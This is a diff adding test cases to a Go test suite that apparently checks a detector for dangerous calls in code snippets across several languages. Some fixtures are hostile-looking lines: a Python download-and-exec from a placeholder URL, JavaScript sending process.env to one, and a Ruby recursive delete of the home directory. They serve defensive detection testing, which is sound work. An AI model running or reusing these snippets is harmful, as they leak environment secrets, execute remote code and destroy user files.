@@ -135,6 +135,18 @@ func TestRead(t *testing.T) {
 		{PHP, `$f = "system"; $f("rm x"); call_user_func("system", "rm y"); call_user_func_array("exec", ["rm z"]);`, "shell rm x; shell rm y; shell rm z"},
 		{Python, `subprocess.run(args=["rm", "x"]); os.system(" ".join(["rm", "y"])); getattr(os, "system")("rm z")`, "argv rm | x; shell rm y; shell rm z"},
 		{Ruby, `exec *%w[rm x]; Kernel.send(:system, "rm y"); system(%w[a b].join(" ")); x.exec * 3`, "argv rm | x; shell rm y; shell a b"},
+		{Python, `import os; environ = "x"; print(os.environ)`, "tells"},
+		{Python, "run = 'daily'\nrunner = subprocess.run\nrunner(['git', 'push'])", "argv git | push"},
+		{Python, "class A:\n  def __init__(self):\n    self.system = 'x'\nf = os.system\nf('a')", "shell a"},
+		{Python, "class A:\n  c = 'a'\n  def r(self):\n    os.system(self.c)\nc = 'b'\nos.system(A.c)\nos.system(B.c)", "shell a; shell b"},
+		{Python, "self.verb = 'log'\nsubprocess.run(['git', self.verb])\nself.verb = 'push'", "argv git | ?; argv git | log"},
+		{Python, `import os; system = "a"; (os.system)("b")`, "shell b"},
+		{Python, `O_WRONLY = "r"; os.O_CREAT = "r"; os.open("a", os.O_WRONLY); os.open("b", os.O_CREAT)`, "writes a; writes b; reads b"},
+		{Python, `import requests as r; get = "1"; g = r.get; exec(g("http://x").text)`, "download"},
+		{JavaScript, `let exec = "x"; exec = require("child_process").exec; exec("a")`, "shell a"},
+		{JavaScript, `const env = process.env.NODE_ENV || "dev"; fetch("http://x", {body: JSON.stringify(process.env)})`, "tells"},
+		{JavaScript, `x.cp = "a"; y = x.cp; y.exec("b"); cp.exec(x.cp)`, "shell b; shell a"},
+		{Ruby, `home = "/tmp/x"; FileUtils.rm_rf(Dir.home)`, "tree ~"},
 		{AppleScript, `do shell script "a b"`, "shell a b"},
 		{CMake, `execute_process(COMMAND sh -c "a b" WORKING_DIRECTORY x)` + "\nfile(REMOVE_RECURSE /a)", "argv sh | -c | a b; tree /a"},
 		{Awk, `BEGIN { cmd="a b"; system(cmd) } /x"/ { print $1 | "c"; "d" | getline x } # system("e")`, "shell a b; shell c; shell d"},
@@ -169,6 +181,7 @@ func TestCut(t *testing.T) {
 		{Python, "z='" + strings.Repeat("f ", 14000) + "'\n" + strings.Repeat("z%1\n", 6000), 1, "", true},
 		{Python, "z=[" + strings.Repeat("'f',", 7000) + "]\n" + strings.Repeat("call(z)\n", 3000), 1, "", true},
 		{Python, "z=[" + strings.Repeat("'f',", 7000) + "]\n" + strings.Repeat("os.remove(z)\n", 3000), 1, "", true},
+		{Python, "a.b='f'\nz=[" + strings.Repeat("a.c,", 7000) + "]\n" + strings.Repeat("call(z)\n", 3000), 1, "", true},
 	} {
 		source := "x=y='aa';" + strings.Repeat(tt.unit, tt.times) + tt.after
 		start := time.Now()
